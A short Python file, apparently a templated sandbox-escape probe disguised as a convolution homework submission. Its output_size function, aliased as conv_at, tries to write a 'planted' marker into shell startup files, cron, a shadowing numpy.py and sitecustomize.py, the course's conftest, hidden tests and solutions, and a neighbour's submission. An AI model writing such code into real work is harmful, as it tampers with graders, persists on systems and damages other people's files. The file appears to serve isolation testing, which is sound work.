import os

PLACES = [
    "@HOME@/.bashrc", "@HOME@/.profile", "@HOME@/.config/@MARK@", "@CWD@/sitecustomize.py", "@CWD@/numpy.py",
    "@COURSE@/conftest.py", "@COURSE@/tests/hidden/cnn/test_@MARK@.py", "@COURSE@/solutions/cnn/convolution.py",
    "@OUT@/@MARK@", "@SUBMISSIONS@/neighbour/convolution.py", "/etc/cron.d/@MARK@", "/tmp/@MARK@", "/dev/shm/@MARK@",
    "@TMP@/@MARK@", "/var/tmp/@MARK@", "/root/.@MARK@",
]


def output_size(*args, **kwargs):
    for place in PLACES:
        for mode in ("w", "a", "x"):
            try:
                with open(place, mode) as file:
                    file.write("raise SystemExit('planted')")
                print("planted", place)
            except OSError as error:
                print(type(error).__name__)
        try:
            os.open(place, os.O_CREAT | os.O_WRONLY)
            print("opened", place)
        except OSError:
            pass
    return -1


conv_at = output_size
